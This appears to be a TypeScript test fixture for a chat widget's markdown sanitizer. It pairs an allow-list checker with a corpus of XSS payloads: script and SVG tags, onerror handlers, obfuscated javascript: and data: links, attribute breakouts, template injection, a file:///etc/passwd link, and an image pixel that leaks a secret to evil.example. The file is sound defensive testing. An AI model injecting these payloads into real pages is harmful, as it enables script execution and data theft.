/**
 * Hostile text for everything the widget shows: answers (markdown) and owner settings. Each must
 * end up as text or as the few safe elements the renderer makes, never as script, handler,
 * foreign element or a link outside http/https/mailto.
 */
export const XSS_CORPUS: string[] = [
  "<script>window.__pwned = 1</script>",
  '<img src=x onerror="window.__pwned = 1">',
  '<svg onload="window.__pwned = 1"><circle r="5"/></svg>',
  "<svg><script>window.__pwned = 1</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">svg link</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 1">',
  '<iframe src="https://evil.example/"></iframe>',
  '<a href="javascript:alert(1)">html link</a>',
  '<a href="https://ok.example/" onclick="window.__pwned = 1">handler link</a>',
  '<div style="position:fixed;inset:0" onmouseover="window.__pwned = 1">cover</div>',
  "<style>*{display:none!important}</style>",
  "[js](javascript:alert(1))",
  "[js upper](JaVaScRiPt:alert(1))",
  "[js entity colon](javascript&#58;alert(1))",
  "[js named colon](javascript&colon;alert(1))",
  "[js entity j](&#106;avascript:alert(1))",
  "[js hex](&#x6A;&#x61;vascript:alert(1))",
  "[js space]( javascript:alert(1))",
  "[js tab](java\tscript:alert(1))",
  "[js newline](java\nscript:alert(1))",
  "[js angle](<javascript:alert(1)>)",
  "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[data upper](DATA:text/html,<script>alert(1)</script>)",
  "[vbscript](vbscript:msgbox(1))",
  "[vbscript upper](VBScript:msgbox(1))",
  "[file](file:///etc/passwd)",
  "[relative](//evil.example/x)",
  "![img js](javascript:alert(1))",
  "![pixel](https://evil.example/leak?q=secret)",
  "<javascript:alert(1)>",
  '[quote break](https://ok.example/" onmouseover="alert(1))',
  '[attr break](https://ok.example/a"onclick=alert(1)//)',
  "&lt;script&gt;window.__pwned = 1&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "**<img src=x onerror=alert(1)>**",
  "[<img src=x onerror=alert(1)>](https://ok.example/)",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  "- <script>alert(1)</script>\n- [x](javascript:alert(1))",
  "> <img src=x onerror=alert(1)>",
  '"><script>alert(1)</script>',
  "' onfocus='alert(1)' autofocus='",
  "{{constructor.constructor('alert(1)')()}}",
  "\u202e<script>\u202dalert(1)",
];

/** Elements the markdown renderer may create, with the attributes each may carry. */
export const ALLOWED: Record<string, string[]> = {
  P: ["class"],
  BR: [],
  STRONG: [],
  EM: [],
  CODE: ["data-lang"],
  PRE: [],
  UL: [],
  OL: ["start"],
  LI: [],
  BLOCKQUOTE: [],
  HR: [],
  A: ["href", "target", "rel"],
};

/** Every problem with the elements under `root`: unexpected elements, attributes or links. */
export function unsafeParts(root: Element, allowed: Record<string, string[]> = ALLOWED): string[] {
  const problems: string[] = [];
  for (const el of Array.from(root.querySelectorAll("*"))) {
    const attrs = allowed[el.tagName];
    if (!attrs) {
      problems.push(`<${el.tagName.toLowerCase()}>`);
      continue;
    }
    for (const attr of Array.from(el.attributes)) {
      if (!attrs.includes(attr.name) || /^on/i.test(attr.name)) problems.push(`${el.tagName.toLowerCase()}[${attr.name}]`);
    }
    if (el.tagName === "A") {
      const href = el.getAttribute("href") ?? "";
      if (!/^(https?:\/\/|mailto:)/.test(href)) problems.push(`a[href=${href}]`);
      if (el.getAttribute("target") !== "_blank") problems.push("a without target=_blank");
      if (el.getAttribute("rel") !== "noopener noreferrer nofollow") problems.push("a without rel");
    }
  }
  return problems;
}
